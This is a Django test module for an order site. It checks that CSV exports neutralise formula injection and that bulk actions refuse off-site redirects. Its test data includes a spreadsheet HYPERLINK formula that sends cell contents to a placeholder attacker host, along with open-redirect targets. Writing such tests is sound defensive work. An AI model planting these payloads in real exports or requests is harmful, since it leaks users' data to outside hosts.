"""Every CSV is safe to open in a spreadsheet: text that would run as a formula is neutralised."""

import csv
import io

import pytest
from django.urls import reverse

from orders.models import OrderStatus
from orders.permissions import Role
from ordersite.exports import safe_cell
from tests.factories.orders import CustomerFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_becomes_text(text):
    assert safe_cell(text) == "'" + text


def test_plain_values_stay_as_they_are():
    assert [safe_cell(v) for v in ("Café Müller", 12, -3, None, "")] == [
        "Café Müller",
        12,
        -3,
        "",
        "",
    ]


def _rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
@pytest.mark.parametrize("how", ["list", "bulk"])
def test_the_order_exports_neutralise_a_hostile_customer_name(
    client, staff, order_in, how
):
    customer = CustomerFactory(name=HOSTILE[0], email="evil@example.com")
    order = order_in(OrderStatus.PLACED, customer=customer)
    client.force_login(staff[Role.CLERK])
    if how == "list":
        response = client.get(reverse("orders:list"), {"format": "csv"})
    else:
        response = client.post(
            reverse("orders:bulk"), {"action": "export", "orders": order.number}
        )
    [header, row] = _rows(response)
    assert row[header.index("customer")] == "'" + HOSTILE[0]
    assert row[header.index("number")] == order.number


@pytest.mark.django_db
def test_the_inventory_health_export_neutralises_a_hostile_product_name(
    client, staff, stock
):
    from tests.factories.inventory import ProductFactory

    product = ProductFactory(name="=1+1")
    stock(product, 1)
    client.force_login(staff[Role.MANAGER])
    response = client.get(reverse("inventory:health"), {"format": "csv"})
    rows = _rows(response)
    names = [r[rows[0].index("product")] for r in rows[1:]]
    assert "'=1+1" in names and "=1+1" not in names


@pytest.mark.django_db
@pytest.mark.parametrize(
    "target", ["abc", "orders:list", "https://evil.example/", "//evil.example/x", ""]
)
def test_a_bulk_action_never_redirects_off_the_site_or_to_a_view_name(
    client, staff, order_in, target
):
    order = order_in(OrderStatus.PAID)
    client.force_login(staff[Role.WAREHOUSE])
    response = client.post(
        reverse("orders:bulk"),
        {"action": "start_picking", "orders": order.number, "next": target},
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("orders:list")


@pytest.mark.django_db
def test_a_bulk_action_goes_back_to_the_page_it_came_from(client, staff, order_in):
    order = order_in(OrderStatus.PAID)
    client.force_login(staff[Role.WAREHOUSE])
    back = reverse("orders:list") + "?status=paid"
    response = client.post(
        reverse("orders:bulk"),
        {"action": "start_picking", "orders": order.number, "next": back},
    )
    assert response["Location"] == back


@pytest.mark.django_db
def test_a_large_export_is_complete_across_blocks_and_fetches(
    client, staff, django_assert_max_num_queries
):
    """Every order exactly once, whatever the block (500 rows) and fetch (5,000 rows)
    boundaries; the queries do not grow with the rows (bench/export.py checks a
    million on PostgreSQL)."""
    from django.core.management import call_command

    from orders.models import Order

    call_command("generate_orders", count=5_321, stdout=io.StringIO())
    client.force_login(staff[Role.CLERK])
    with django_assert_max_num_queries(6):
        rows = _rows(client.get(reverse("orders:list"), {"format": "csv"}))
    numbers = [row[0] for row in rows[1:]]
    assert len(numbers) == Order.objects.count() == 5_321
    assert set(numbers) == set(Order.objects.values_list("number", flat=True))
